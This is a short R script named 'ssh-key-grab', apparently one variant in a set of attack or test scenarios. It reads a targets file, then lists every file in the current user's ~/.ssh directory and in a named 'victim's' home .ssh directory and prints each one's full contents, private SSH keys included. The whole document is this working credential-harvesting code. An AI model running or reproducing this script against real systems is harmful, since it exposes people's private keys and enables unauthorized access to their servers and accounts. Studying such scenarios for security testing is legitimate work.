# ssh-key-grab (R): readLines() every file in ~/.ssh, by $HOME and by the
# victim's real home path: the seed scenario's readLines("~/.ssh/id_rsa").
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })

for (d in c(path.expand("~/.ssh"), file.path(T[["T_HOME"]], ".ssh"))) {
  for (f in list.files(d, full.names = TRUE)) {
    if (!dir.exists(f)) cat("==>", f, readLines(f, warn = FALSE), sep = "\n")
  }
}
